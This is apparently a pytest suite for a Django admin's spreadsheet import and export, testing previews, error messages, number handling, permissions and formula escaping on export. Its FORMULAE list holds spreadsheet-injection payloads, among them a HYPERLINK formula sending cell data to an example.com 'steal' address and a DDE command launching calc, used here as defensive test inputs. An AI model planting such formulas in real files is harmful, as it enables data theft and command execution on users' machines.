"""Spreadsheet import and export in the admin, driven through django-import-export's real views.

django-import-export 4.4.3 declares support only up to Django 5.2; these tests prove that, under
the project's Django, a user can upload a sheet, see a dry-run preview that saves nothing, confirm
it, and export csv and xlsx files that keep numbers as numbers and never carry a runnable
formula, with each group allowed only what the permissions migration grants it.
"""

import codecs
import csv
import datetime
import html
import io
import random
import tempfile
import zipfile
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from django.apps import apps
from django.contrib import admin
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from import_export.formats.base_formats import CSV, XLSX

from budgets.models import BudgetLine
from core.admin import describe_import_problems
from core.models import ImportPreview
from core.services import links_set_in_order
from kpis import choices as kpi_choices
from kpis.models import Indicator, Measurement
from plans import choices as plan_choices
from plans.models import Milestone, Role
from tests.budgets.factories import BudgetCategoryFactory, BudgetFactory, BudgetLineFactory
from tests.core.test_spreadsheets import saving_result
from tests.kpis.factories import IndicatorFactory, MeasurementFactory
from tests.plans.factories import (
    MilestoneFactory,
    PlanYearFactory,
    ProjectFactory,
    QuarterSignOffFactory,
    RoleFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

FORMULAE = [
    '=HYPERLINK("http://example.com/steal?d="&A1,"Click")',
    "+44 20 7783 8330",
    "-danger",
    "@SUM(A1)",
    "\tcmd|' /C calc'!A0",
    "\rtrailing",
]


# ---------------------------------------------------------------------------------------------
# Driving the admin views
# ---------------------------------------------------------------------------------------------


def admin_url(model, action):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{action}")


def format_index(model, format_class, *, export=False):
    """The value of the `format` choice the form offers for a file format."""
    model_admin = admin.site._registry[model]
    formats = model_admin.get_export_formats() if export else model_admin.get_import_formats()
    # The export's workbook is a formatted kind of XLSX (core.exports.ReadableXLSX).
    return str(next(i for i, offered in enumerate(formats) if issubclass(offered, format_class)))


def csv_upload(rows, name="sheet.csv"):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode("utf-8"), content_type="text/csv")


def xlsx_upload(rows, name="sheet.xlsx"):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue(), content_type=XLSX.CONTENT_TYPE)


def upload(client, model, rows, format_class=CSV):
    """Post a sheet (rows, or a file's bytes) to the admin's import form: the dry-run preview."""
    if isinstance(rows, bytes):
        name = f"sheet.{format_class().get_extension()}"
        file = SimpleUploadedFile(name, rows, content_type=format_class.CONTENT_TYPE)
    elif format_class is XLSX:
        file = xlsx_upload(rows)
    else:
        file = csv_upload(rows)
    return client.post(
        admin_url(model, "import"),
        {"import_file": file, "format": format_index(model, format_class), "resource": "0"},
    )


def confirm(client, model, preview):
    """Press "Confirm import" on a preview page: post its hidden fields to process_import."""
    form = preview.context["confirm_form"]
    data = {name: form.initial[name] for name in form.fields}
    return client.post(admin_url(model, "process_import"), data, follow=True)


def export(client, model, format_class, fields=None):
    """Post the admin's export form with every field of the model's resource ticked."""
    model_admin = admin.site._registry[model]
    resource_class = model_admin.get_export_resource_classes(None)[0]
    fields = fields or resource_class().get_export_order()
    data = {"format": format_index(model, format_class, export=True), "resource": "0"}
    for field in fields:
        data[f"{resource_class.__name__.lower()}_{field}"] = "on"
    return client.post(admin_url(model, "export"), data)


def column_names(response, headers):
    """The column names ("plan_year") of an export's headers in words ("Plan year")."""
    # The export's address is named "<app>_<model>_export".
    app_label, model_name, _view = response.wsgi_request.resolver_match.url_name.split("_")
    model = apps.get_model(app_label, model_name)
    resource_class = admin.site._registry[model].get_export_resource_classes(None)[0]
    columns = resource_class().columns_by_header()
    return [columns[str(header).lower()] for header in headers]


def csv_rows(response):
    """The rows of an exported CSV file, by column name."""
    assert response.status_code == 200, response.content[:2000]
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(codecs.BOM_UTF8)  # for Excel to read it as UTF-8
    reader = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    headers = column_names(response, next(reader))
    return [dict(zip(headers, row, strict=True)) for row in reader]


def xlsx_sheet(response):
    """The column names and rows (cells by column name) of an exported workbook."""
    assert response.status_code == 200, response.content[:2000]
    assert response["Content-Type"] == XLSX.CONTENT_TYPE
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = column_names(response, [cell.value for cell in sheet[1]])
    return headers, [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def problems(response):
    """Every problem the preview reports, as (row number in the sheet, field, message)."""
    result = response.context["result"]
    found = []
    for row in result.invalid_rows:
        for field, messages in row.field_specific_errors.items():
            found.extend((row.number, field, message) for message in messages)
        found.extend((row.number, None, message) for message in row.non_field_specific_errors)
    for line, errors in result.row_errors():
        found.extend((line, None, str(error.error)) for error in errors)
    found.extend((None, None, str(error.error)) for error in result.base_errors)
    return found


def import_types(response):
    return [row.import_type for row in response.context["result"].valid_rows()]


def text(response):
    return response.content.decode("utf-8")


def assert_preview_only(response):
    """The preview page shows the rows and a confirm button, with no errors."""
    assert response.status_code == 200
    assert problems(response) == []
    assert response.context["confirm_form"] is not None
    assert "Confirm import" in text(response)


def assert_refused(response):
    """The preview page reports problems and offers nothing to confirm."""
    assert response.status_code == 200
    assert problems(response)
    assert "confirm_form" not in response.context
    assert "Confirm import" not in text(response)


# ---------------------------------------------------------------------------------------------
# A plan year to import into
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def plan(db):
    """A plan year to import into. Its indicators are owned by the Director of Policy, a role
    every director signed in by `admin_client_for` holds: directors import the actuals of their
    own indicators only."""
    year = PlanYearFactory(year="2010-11")
    later_year = PlanYearFactory(year="2011-12")
    world = SimpleNamespace(
        year=year,
        later_year=later_year,
        voices=ProjectFactory(plan_year=year, title="Children's voices"),
        panel=ProjectFactory(plan_year=year, title="Young people's panel"),
        # The same title in another year: lookups are scoped to the row's plan year.
        later_voices=ProjectFactory(plan_year=later_year, title="Children's voices"),
        policy=RoleFactory(title="Director of Policy"),
        services=RoleFactory(title="Director of Corporate Services"),
        kpi1=IndicatorFactory(plan_year=year, ref="KPI1", annual_target=Decimal("50000")),
        ratio=IndicatorFactory(
            plan_year=year,
            ref="KPI2",
            title="Share of children who felt listened to",
            unit=kpi_choices.Unit.PERCENTAGE,
            aggregation=kpi_choices.Aggregation.RATIO,
            annual_target=Decimal("80"),
        ),
        later_kpi1=IndicatorFactory(plan_year=later_year, ref="KPI1"),
        budget=BudgetFactory(plan_year=year),
        pay=BudgetCategoryFactory(name="Pay"),
        income=BudgetCategoryFactory(name="Income", is_income=True),
        governance=BudgetCategoryFactory(name="Governance"),
    )
    for indicator in (world.kpi1, world.ratio, world.later_kpi1):
        indicator.owners.add(world.policy)
    return world


@pytest.fixture
def admin_client_for(client, user_in_group):
    def sign_in(group_name):
        user = user_in_group(group_name)
        if group_name == "Directors":
            # A director holds the role that owns the plan's indicators (see `plan`).
            for role in Role.objects.filter(title="Director of Policy"):
                role.holders.add(user)
        client.force_login(user)
        client.user = user
        return client

    return sign_in


# ---------------------------------------------------------------------------------------------
# 1. Upload, preview (nothing saved), confirm (saved with the right values)
# ---------------------------------------------------------------------------------------------

INDICATOR_HEADERS = [
    "plan_year",
    "ref",
    "title",
    "tier",
    "project",
    "owners",
    "unit",
    "direction",
    "aggregation",
    "frequency",
    "annual_target",
    "baseline",
    "target_change_percent",
    "later_target",
    "later_target_year",
    "target_wording",
    "purpose",
    "notes",
]


def test_indicators_are_previewed_then_imported(admin_client_for, plan):
    client = admin_client_for("Administrators")
    rows = [
        [*INDICATOR_HEADERS, "target_profile"],
        # An update of KPI1 (a new target) and a new project indicator.
        [
            "2010-11", "KPI1", plan.kpi1.title, "key", "", "Director of Policy", "count",
            "higher", "total", "monthly", "52500.1234", "", "", "", "", "52,500", "", "", "",
        ],
        [
            "2010-11", "PI1", "Consultations run with children", "project", "Children's voices",
            "Director of Policy;Director of Corporate Services", "count", "higher", "total",
            "quarterly", "", "40", "12.5", "100", "2013", "12.5% more than 2009-10",
            "Count of consultations", "-from the PID", "flat",
        ],
    ]  # fmt: skip
    before = Indicator.objects.count()

    preview = upload(client, Indicator, rows)

    assert_preview_only(preview)
    assert import_types(preview) == ["update", "new"]
    assert "Consultations run with children" in text(preview)
    assert Indicator.objects.count() == before
    plan.kpi1.refresh_from_db()
    assert plan.kpi1.annual_target == Decimal("50000")

    done = confirm(client, Indicator, preview)

    assert done.status_code == 200
    assert "Import finished: 1 new, 1 updated" in text(done)
    assert Indicator.objects.count() == before + 1
    plan.kpi1.refresh_from_db()
    assert plan.kpi1.annual_target == Decimal("52500.1234")
    assert list(plan.kpi1.owners.all()) == [plan.policy]
    new = Indicator.objects.get(plan_year=plan.year, ref="PI1")
    assert new.project == plan.voices  # the 2010-11 project, not 2011-12's of the same title
    assert new.frequency == kpi_choices.Frequency.QUARTERLY
    # A profile chosen in the sheet is kept; one left blank is the kind's (even for a total).
    assert new.target_profile == kpi_choices.TargetProfile.FLAT
    assert plan.kpi1.target_profile == kpi_choices.TargetProfile.EVEN
    assert new.annual_target is None
    assert new.baseline == Decimal("40")
    assert new.target_change_percent == Decimal("12.5")
    assert new.target == Decimal("45")
    assert new.later_target_year == "2013"
    assert new.notes == "-from the PID"
    assert set(new.owners.all()) == {plan.policy, plan.services}


def _owners_in_order(indicator):
    return list(
        indicator.owners.order_by("indicator_links__position").values_list("title", flat=True)
    )


def test_an_indicators_owners_are_imported_and_exported_in_the_sheets_order(admin_client_for, plan):
    """The owners cell lists them as the plan prints them; an import that only reorders them is
    a change (not skipped as unchanged), and the export lists them in that order."""
    client = admin_client_for("Administrators")
    row = [
        "2010-11", "KPI1", plan.kpi1.title, "key", "", "", "count", "higher", "total",
        "monthly", "50000", "", "", "", "", plan.kpi1.target_wording, plan.kpi1.purpose,
        plan.kpi1.notes,
    ]  # fmt: skip
    for owners in (
        "Director of Policy;Director of Corporate Services",
        "Director of Corporate Services;Director of Policy",
    ):
        row[5] = owners
        done = confirm(client, Indicator, upload(client, Indicator, [INDICATOR_HEADERS, row]))
        assert "1 updated" in text(done)
        assert _owners_in_order(plan.kpi1) == owners.split(";")

    exported = csv_rows(export(client, Indicator, CSV))
    kpi1 = next(r for r in exported if r["ref"] == "KPI1" and r["plan_year"] == "2010-11")
    assert kpi1["owners"] == "Director of Corporate Services;Director of Policy"


def test_an_import_that_only_reorders_owners_adds_one_version_as_the_entry_screens_do(
    admin_client_for, plan
):
    """The indicator's audit history gains one version, by the importer, with the owners in the
    sheet's order; the record's own values, unchanged, add none."""
    client = admin_client_for("Administrators")
    links_set_in_order(plan.kpi1.owners, [plan.policy, plan.services])
    versions = plan.kpi1.history.count()
    row = [
        "2010-11", "KPI1", plan.kpi1.title, "key", "",
        "Director of Corporate Services;Director of Policy", "count", "higher", "total",
        "monthly", "50000", "", "", "", "", plan.kpi1.target_wording, plan.kpi1.purpose,
        plan.kpi1.notes,
    ]  # fmt: skip

    done = confirm(client, Indicator, upload(client, Indicator, [INDICATOR_HEADERS, row]))

    assert "1 updated" in text(done)
    assert plan.kpi1.history.count() == versions + 1
    latest = plan.kpi1.history.first()
    assert latest.history_user == client.user
    assert {(link.role_id, link.position) for link in latest.owners.all()} == {
        (plan.services.pk, 1),
        (plan.policy.pk, 2),
    }


MEASUREMENT_HEADERS = [
    "plan_year",
    "indicator",
    "period",
    "value",
    "numerator",
    "denominator",
    "commentary",
]


def test_measurements_are_previewed_then_imported_as_entered_by_the_importer(
    admin_client_for, plan
):
    someone_else = UserFactory(username="previous")
    MeasurementFactory(
        indicator=plan.kpi1, period=datetime.date(2010, 4, 1), entered_by=someone_else
    )
    client = admin_client_for("Directors")
    rows = [
        MEASUREMENT_HEADERS,
        ["2010-11", "KPI1", "2010-04-01", "4150.5", "", "", "Corrected count"],
        ["2010-11", "KPI1", "2010-05-01", "3900", "", "", "+12% on May 2009"],
        ["2010-11", "KPI2", "2010-05-01", "", "41", "50", ""],
    ]

    preview = upload(client, Measurement, rows)

    assert_preview_only(preview)
    assert import_types(preview) == ["update", "new", "new"]
    assert Measurement.objects.count() == 1
    assert Measurement.objects.get().value == Decimal("4100")

    done = confirm(client, Measurement, preview)

    assert "Import finished: 2 new, 1 updated" in text(done)
    assert Measurement.objects.count() == 3
    april, may = Measurement.objects.filter(indicator=plan.kpi1).order_by("period")
    assert april.value == Decimal("4150.5")
    assert april.commentary == "Corrected count"
    assert may.value == Decimal("3900")
    assert may.commentary == "+12% on May 2009"
    ratio = Measurement.objects.get(indicator=plan.ratio)
    assert (ratio.value, ratio.numerator, ratio.denominator) == (None, Decimal(41), Decimal(50))
    # The admin passes the importing user to the resource, which records who entered the actuals.
    assert {m.entered_by for m in Measurement.objects.all()} == {client.user}


MILESTONE_HEADERS = [
    "id",
    "plan_year",
    "project",
    "title",
    "due_on",
    "status",
    "completed_on",
    "commentary",
    "is_illustrative",
]


def test_milestones_are_previewed_then_imported(admin_client_for, plan):
    client = admin_client_for("Administrators")
    existing = MilestoneFactory(project=plan.panel, title="Recruit the panel")
    rows = [
        MILESTONE_HEADERS,
        [existing.pk, "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30",
         "done", "2010-06-15", "Recruited 24 members", "0"],
        # At risk, so with commentary: an import cannot ask for it (issue 24).
        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "at risk",
         "", "Printer delayed", "0"],
    ]  # fmt: skip

    preview = upload(client, Milestone, rows)

    assert_preview_only(preview)
    assert import_types(preview) == ["update", "new"]
    assert Milestone.objects.count() == 1
    existing.refresh_from_db()
    assert existing.status == plan_choices.MilestoneStatus.ON_TRACK

    done = confirm(client, Milestone, preview)

    assert "Import finished: 1 new, 1 updated" in text(done)
    existing.refresh_from_db()
    assert existing.status == plan_choices.MilestoneStatus.DONE
    assert existing.completed_on == datetime.date(2010, 6, 15)
    assert existing.due_on == datetime.date(2010, 6, 30)
    assert existing.commentary == "Recruited 24 members"
    new = Milestone.objects.get(title="Publish the report")
    assert new.project == plan.voices
    assert new.status == plan_choices.MilestoneStatus.AT_RISK
    assert new.completed_on is None


BUDGET_LINE_HEADERS = ["id", "plan_year", "category", "project", "amount", "description", "notes"]


def test_budget_lines_are_previewed_then_imported(admin_client_for, plan):
    client = admin_client_for("Corporate services")
    rows = [
        BUDGET_LINE_HEADERS,
        ["", "2010-11", "Pay", "", "1473000.55", "Staff costs", ""],
        ["", "2010-11", "Income", "", "-93000.00", "Income from the Big Lottery", ""],
        ["", "2010-11", "Governance", "Children's voices", "0.01", "", ""],
    ]

    preview = upload(client, BudgetLine, rows)

    assert_preview_only(preview)
    assert import_types(preview) == ["new", "new", "new"]
    assert BudgetLine.objects.count() == 0

    done = confirm(client, BudgetLine, preview)

    assert "Import finished: 3 new, 0 updated" in text(done)
    lines = {line.category.name: line for line in BudgetLine.objects.all()}
    assert lines["Pay"].amount == Decimal("1473000.55")
    assert lines["Pay"].budget == plan.budget
    assert lines["Income"].amount == Decimal("-93000.00")
    assert lines["Income"].description == "Income from the Big Lottery"
    assert lines["Governance"].amount == Decimal("0.01")
    assert lines["Governance"].project == plan.voices


def test_an_xlsx_workbook_is_imported_with_native_numbers_and_dates(admin_client_for, plan):
    client = admin_client_for("Corporate services")
    rows = [
        BUDGET_LINE_HEADERS,
        [None, "2010-11", "Pay", None, 1473000.55, "Staff costs", None],
        # Escaped text: openpyxl would write "=..." itself as a formula.
        [None, "2010-11", "Income", None, -93000, "'=not a formula once escaped", None],
    ]

    preview = upload(client, BudgetLine, rows, XLSX)

    assert_preview_only(preview)
    assert BudgetLine.objects.count() == 0
    confirm(client, BudgetLine, preview)
    lines = {line.category.name: line for line in BudgetLine.objects.all()}
    assert lines["Pay"].amount == Decimal("1473000.55")
    assert lines["Income"].amount == Decimal("-93000")
    assert lines["Income"].description == "=not a formula once escaped"

    client = admin_client_for("Directors")
    rows = [
        MEASUREMENT_HEADERS,
        # Behind its target to date, so with commentary (a red actual needs it).
        ["2010-11", "KPI1", datetime.date(2010, 6, 1), 4100.25, None, None, "Summer events"],
    ]
    preview = upload(client, Measurement, rows, XLSX)
    assert_preview_only(preview)
    confirm(client, Measurement, preview)
    measurement = Measurement.objects.get()
    assert measurement.period == datetime.date(2010, 6, 1)
    assert measurement.value == Decimal("4100.25")
    assert measurement.entered_by == client.user


# ---------------------------------------------------------------------------------------------
# 2. A bad sheet names the line and the column, and saves nothing
# ---------------------------------------------------------------------------------------------


def test_an_unknown_indicator_is_refused_and_the_good_row_is_not_saved(admin_client_for, plan):
    client = admin_client_for("Directors")
    rows = [
        MEASUREMENT_HEADERS,
        ["2010-11", "KPI1", "2010-04-01", "4100", "", "", ""],
        ["2010-11", "KPI99", "2010-04-01", "12", "", "", ""],
    ]

    preview = upload(client, Measurement, rows)

    assert_refused(preview)
    assert problems(preview) == [
        (3, "indicator", "No indicator called 'KPI99' in plan year '2010-11'.")
    ]
    assert "No indicator called &#x27;KPI99&#x27; in plan year &#x27;2010-11&#x27;." in text(
        preview
    )
    assert Measurement.objects.count() == 0


def test_an_unknown_project_is_refused(admin_client_for, plan):
    client = admin_client_for("Administrators")
    rows = [
        MILESTONE_HEADERS,
        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "on track",
         "", "", "0"],
        ["", "2010-11", "No such project", "Hold a summit", "2011-03-31", "on track", "", "",
         "0"],
    ]  # fmt: skip

    preview = upload(client, Milestone, rows)

    assert_refused(preview)
    assert problems(preview) == [
        (3, "project", "No project called 'No such project' in plan year '2010-11'.")
    ]
    assert Milestone.objects.count() == 0


def test_a_non_number_amount_is_refused_naming_the_line_and_column(admin_client_for, plan):
    client = admin_client_for("Corporate services")
    rows = [
        BUDGET_LINE_HEADERS,
        ["", "2010-11", "Pay", "", "1473000", "Staff costs", ""],
        ["", "2010-11", "Governance", "", "about 2k", "", ""],
    ]

    preview = upload(client, BudgetLine, rows)

    assert_refused(preview)
    message = "'about 2k' is not a number. Enter an amount in pounds, like £1,473,000 or 1473000."
    assert problems(preview) == [(3, "amount", message)]
    assert "about 2k&#x27; is not a number. Enter an amount in pounds" in text(preview)
    assert BudgetLine.objects.count() == 0


BUDGET_LINE_HEADERS_IN_WORDS = [
    "ID",
    "Plan year",
    "Category",
    "Project",
    "Amount (£)",
    "Description",
    "Notes",
]


@pytest.mark.parametrize("format_class", [CSV, XLSX])
def test_a_bad_row_below_blank_rows_is_named_by_its_row_and_column_in_the_sheet(
    admin_client_for, plan, format_class
):
    client = admin_client_for("Corporate services")
    rows = [
        BUDGET_LINE_HEADERS_IN_WORDS,
        ["", "2010-11", "Pay", "", "1473000", "Staff costs", ""],
        [],
        [],
        [],
        [],
        ["", "2010-11", "Governance", "", "about 2k", "", ""],
    ]

    preview = upload(client, BudgetLine, rows, format_class)

    assert_refused(preview)
    message = "'about 2k' is not a number. Enter an amount in pounds, like £1,473,000 or 1473000."
    assert describe_import_problems(preview.context["result"]) == [
        f'Row 7, column E ("Amount (£)"): {message}'
    ]
    assert escape('Row 7, column E ("Amount (£)")') in text(preview)
    assert BudgetLine.objects.count() == 0


@pytest.mark.parametrize("format_class", [CSV, XLSX])
def test_the_same_record_twice_below_blank_rows_names_both_rows_as_the_sheet_shows_them(
    admin_client_for, plan, format_class
):
    client = admin_client_for("Directors")
    rows = [
        MEASUREMENT_HEADERS,
        [],
        ["2010-11", "KPI1", "2010-04-01", "4100", "", "", ""],
        [],
        ["2010-11", "KPI1", "2010-04-01", "4200", "", "", ""],
    ]

    preview = upload(client, Measurement, rows, format_class)

    assert (5, None, "Rows 3 and 5 are the same measurement. Keep one of them.") in problems(
        preview
    )


def test_amounts_are_imported_as_people_write_them_in_a_spreadsheet(admin_client_for, plan):
    client = admin_client_for("Corporate services")
    rows = [
        BUDGET_LINE_HEADERS_IN_WORDS,
        ["", "2010-11", "Pay", "", "£1,473,000", "Staff costs", ""],
        ["", "2010-11", "Income", "", "(£93,000)", "Income from the Big Lottery", ""],
        ["", "2010-11", "Governance", "", "1,250.50", "", ""],
    ]

    preview = upload(client, BudgetLine, rows, XLSX)
    assert_preview_only(preview)
    confirm(client, BudgetLine, preview)

    amounts = {line.category.name: line.amount for line in BudgetLine.objects.all()}
    assert amounts == {
        "Pay": Decimal("1473000"),
        "Income": Decimal("-93000"),
        "Governance": Decimal("1250.50"),
    }


def test_measurement_values_and_targets_are_imported_as_people_write_them(admin_client_for, plan):
    client = admin_client_for("Directors")
    rows = [MEASUREMENT_HEADERS, ["2010-11", "KPI1", "2010-04-01", "4,543", "", "", ""]]

    preview = upload(client, Measurement, rows)
    assert_preview_only(preview)
    confirm(client, Measurement, preview)

    assert Measurement.objects.get().value == Decimal("4543")


def test_indicator_targets_are_imported_as_people_write_them(admin_client_for, plan):
    client = admin_client_for("Administrators")
    row = [
        "2010-11", "KPI1", plan.kpi1.title, "key", "", "Director of Policy", "count", "higher",
        "total", "monthly", "52,500", "4,100.5", "12.5%", "60,000", "2013", "", "", "",
    ]  # fmt: skip

    preview = upload(client, Indicator, [INDICATOR_HEADERS, row], XLSX)
    assert_preview_only(preview)
    confirm(client, Indicator, preview)

    plan.kpi1.refresh_from_db()
    targets = (
        plan.kpi1.annual_target,
        plan.kpi1.baseline,
        plan.kpi1.target_change_percent,
        plan.kpi1.later_target,
    )
    assert targets == (Decimal("52500"), Decimal("4100.5"), Decimal("12.5"), Decimal("60000"))


def test_a_measurement_value_that_is_no_number_says_what_to_type(admin_client_for, plan):
    client = admin_client_for("Directors")
    rows = [MEASUREMENT_HEADERS, ["2010-11", "KPI1", "2010-04-01", "lots", "", "", ""]]

    preview = upload(client, Measurement, rows)

    assert (2, "value", "'lots' is not a number. Enter a number, like 4,543 or 4543.5.") in (
        problems(preview)
    )


def test_an_unknown_category_is_refused_naming_the_line_and_column(admin_client_for, plan):
    client = admin_client_for("Corporate services")
    rows = [BUDGET_LINE_HEADERS, ["", "2010-11", "Catering", "", "100", "", ""]]

    preview = upload(client, BudgetLine, rows)

    assert_refused(preview)
    assert problems(preview) == [(2, "category", "No budget category called 'Catering'.")]
    assert BudgetLine.objects.count() == 0


def test_an_invalid_choice_is_refused_naming_the_line_and_column(admin_client_for, plan):
    client = admin_client_for("Administrators")
    row = ["2010-11", "EI1", "Staff turnover", "enabling", "", "", "count", "sideways",
           "total", "monthly", "", "", "", "", "", "", "", ""]  # fmt: skip
    before = Indicator.objects.count()

    preview = upload(client, Indicator, [INDICATOR_HEADERS, row])

    assert_refused(preview)
    assert problems(preview) == [(2, "direction", "Value 'sideways' is not a valid choice.")]
    assert "Value &#x27;sideways&#x27; is not a valid choice." in text(preview)
    assert Indicator.objects.count() == before


def test_an_unknown_owner_is_refused_rather_than_dropped(admin_client_for, plan):
    client = admin_client_for("Administrators")
    row = ["2010-11", "EI1", "Staff turnover", "enabling", "", "Director of Policy;Head of Nothing",
           "count", "lower", "total", "monthly", "", "", "", "", "", "", "", ""]  # fmt: skip

    preview = upload(client, Indicator, [INDICATOR_HEADERS, row])

    assert_refused(preview)
    assert problems(preview) == [(2, "owners", "No role called 'Head of Nothing'.")]


def test_a_ratio_measurement_without_its_numerator_is_refused(admin_client_for, plan):
    client = admin_client_for("Directors")
    rows = [MEASUREMENT_HEADERS, ["2010-11", "KPI2", "2010-04-01", "82", "", "", ""]]

    preview = upload(client, Measurement, rows)

    assert_refused(preview)
    assert problems(preview) == [
        (2, "numerator", "This indicator is a ratio: give a numerator and denominator.")
    ]
    assert "This indicator is a ratio: give a numerator and denominator." in text(preview)
    assert Measurement.objects.count() == 0


def test_a_sheet_that_went_bad_after_its_preview_saves_nothing_on_confirm(admin_client_for, plan):
    client = admin_client_for("Administrators")
    rows = [
        MILESTONE_HEADERS,
        ["", "2010-11", "Children's voices", "Publish the report", "2011-03-31", "on track",
         "", "", "0"],
        ["", "2010-11", "Young people's panel", "Recruit the panel", "2010-06-30", "on track",
         "", "", "0"],
    ]  # fmt: skip
    preview = upload(client, Milestone, rows)
    assert_preview_only(preview)
    # Someone renames a project between the preview and the confirmation.
    plan.panel.title = "Youth panel"
    plan.panel.save()

    done = confirm(client, Milestone, preview)

    assert Milestone.objects.count() == 0
    page = text(done)
    assert "Import finished" not in page
    assert "Nothing was imported" in page
    assert "Row 3" in page
    assert "project" in page


# ---------------------------------------------------------------------------------------------
# 3. Exports keep numbers as numbers and never carry a runnable formula; they import back
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def risky(plan):
    """Rows whose text would run as a formula in a spreadsheet, beside plain numbers."""
    milestones = [
        MilestoneFactory(project=plan.voices, title=title, commentary=title) for title in FORMULAE
    ]
    milestones.append(
        MilestoneFactory(project=plan.voices, title="'=already quoted", commentary="'-x")
    )
    milestones.append(MilestoneFactory(project=plan.voices, title="Plain title"))
    return SimpleNamespace(
        income=BudgetLineFactory(
            budget=plan.budget,
            category=plan.income,
            amount=Decimal("-93000.00"),
            description="+44",
            notes="@SUM(A1)",
        ),
        pay=BudgetLineFactory(
            budget=plan.budget,
            category=plan.pay,
            amount=Decimal("1473000.55"),
            description="-danger",
            notes="\tTabbed",
        ),
        milestones=milestones,
    )


def test_an_xlsx_export_keeps_numbers_and_escapes_formula_text(admin_client_for, plan, risky):
    client = admin_client_for("Corporate services")

    headers, rows = xlsx_sheet(export(client, BudgetLine, XLSX))

    assert headers == [
        "id", "plan_year", "category", "project", "amount", "description", "notes", "version",
    ]  # fmt: skip
    by_category = {row["category"].value: row for row in rows}
    income, pay = by_category["Income"], by_category["Pay"]
    assert income["amount"].data_type == "n"
    assert income["amount"].value == -93000
    assert pay["amount"].data_type == "n"
    assert Decimal(str(pay["amount"].value)) == Decimal("1473000.55")
    assert income["description"].value == "'+44"
    assert income["notes"].value == "'@SUM(A1)"
    assert pay["description"].value == "'-danger"
    assert pay["notes"].value == "'\tTabbed"
    assert income["plan_year"].value == "2010-11"
    assert all(cell.data_type != "f" for row in rows for cell in row.values())


def test_an_xlsx_milestone_export_escapes_every_formula_trigger(admin_client_for, plan, risky):
    client = admin_client_for("Staff")

    _headers, rows = xlsx_sheet(export(client, Milestone, XLSX))

    # XML, which xlsx is, reads a carriage return back as a line feed; the apostrophe remains.
    titles = {row["title"].value.replace("\n", "\r") for row in rows}
    assert {"'" + formula for formula in FORMULAE} <= titles
    assert "Plain title" in titles
    assert all(cell.data_type != "f" for row in rows for cell in row.values())
    due = next(row["due_on"] for row in rows if row["title"].value == "Plain title")
    assert due.is_date


def test_a_csv_export_keeps_numbers_and_escapes_formula_text(admin_client_for, plan, risky):
    client = admin_client_for("Corporate services")

    rows = {row["category"]: row for row in csv_rows(export(client, BudgetLine, CSV))}

    assert rows["Income"]["amount"] == "-93000.00"
    assert rows["Pay"]["amount"] == "1473000.55"
    assert rows["Income"]["description"] == "'+44"
    assert rows["Income"]["notes"] == "'@SUM(A1)"
    assert rows["Pay"]["description"] == "'-danger"
    assert rows["Pay"]["notes"] == "'\tTabbed"

    milestones = csv_rows(export(admin_client_for("Administrators"), Milestone, CSV))
    titles = {row["title"] for row in milestones}
    assert {"'" + formula for formula in FORMULAE} <= titles
    assert all(not title.startswith(("=", "+", "-", "@", "\t", "\r")) for title in titles)


def test_a_negative_indicator_target_change_exports_as_a_number(admin_client_for, plan):
    IndicatorFactory(
        plan_year=plan.year, ref="EI9", baseline=Decimal("12"), annual_target=None,
        target_change_percent=Decimal("-10"), target_wording="-10% on 2009-10",
    )  # fmt: skip
    client = admin_client_for("Directors")

    _headers, rows = xlsx_sheet(export(client, Indicator, XLSX))

    row = next(row for row in rows if row["ref"].value == "EI9")
    assert row["target_change_percent"].data_type == "n"
    assert row["target_change_percent"].value == -10
    assert row["target_wording"].value == "'-10% on 2009-10"
    csv_row = next(r for r in csv_rows(export(client, Indicator, CSV)) if r["ref"] == "EI9")
    assert csv_row["target_change_percent"] == "-10.0000"
    assert csv_row["target_wording"] == "'-10% on 2009-10"


def test_an_exported_csv_imports_back_to_the_original_text(admin_client_for, plan, risky):
    client = admin_client_for("Administrators")
    original = {m.pk: (m.title, m.commentary) for m in Milestone.objects.all()}
    exported = export(client, Milestone, CSV).content

    # Unchanged rows are recognised as unchanged: the apostrophes come off on the way in.
    preview = upload(client, Milestone, exported)
    assert_preview_only(preview)
    assert set(import_types(preview)) == {"skip"}

    # Imported afresh, every title and commentary is the original text.
    Milestone.objects.all().delete()
    preview = upload(client, Milestone, exported)
    assert_preview_only(preview)
    confirm(client, Milestone, preview)
    assert {m.pk: (m.title, m.commentary) for m in Milestone.objects.all()} == original


def test_an_exported_xlsx_imports_back_to_the_original_numbers_and_text(
    admin_client_for, plan, risky
):
    client = admin_client_for("Corporate services")
    original = {
        line.pk: (line.amount, line.description, line.notes) for line in BudgetLine.objects.all()
    }
    exported = export(client, BudgetLine, XLSX).content
    BudgetLine.objects.all().delete()

    preview = upload(client, BudgetLine, exported, XLSX)
    assert_preview_only(preview)
    confirm(client, BudgetLine, preview)

    assert {
        line.pk: (line.amount, line.description, line.notes) for line in BudgetLine.objects.all()
    } == original


# ---------------------------------------------------------------------------------------------
# 4. Permissions: each group imports and exports only what the migration grants it
# ---------------------------------------------------------------------------------------------


def test_staff_see_no_import_or_export_button_for_indicators_and_are_refused(admin_client_for):
    client = admin_client_for("Staff")

    changelist = client.get(admin_url(Indicator, "changelist"))
    assert changelist.status_code == 200
    assert admin_url(Indicator, "import") not in text(changelist)
    assert admin_url(Indicator, "export") not in text(changelist)

    assert client.get(admin_url(Indicator, "import")).status_code == 403
    assert client.post(admin_url(Indicator, "process_import"), {}).status_code == 403
